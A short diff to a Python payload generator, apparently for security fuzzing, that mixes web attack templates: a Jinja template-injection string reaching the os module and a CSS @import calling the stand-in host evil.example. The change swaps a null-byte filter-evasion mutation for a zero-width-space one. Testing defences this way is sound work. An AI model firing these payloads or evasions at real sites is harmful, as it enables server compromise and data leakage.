@@ -69,7 +69,7 @@ def payloads() -> list[str]:
         "{{{{ cycler.__init__.__globals__.os }}}} {{% print({0}) %}} <b>{0}</b>",
         "<style>@import '//evil.example/{0}';</style>",
     )
-    bends: tuple[Bend, ...] = (str, str.swapcase, lambda one: one.replace("<", "<\x00"))
+    bends: tuple[Bend, ...] = (str, str.swapcase, lambda one: one.replace("<", "<\u200b<"))
     every = (
         bend(shape.format(call)) for bend, call, shape in itertools.product(bends, calls, shapes)
     )
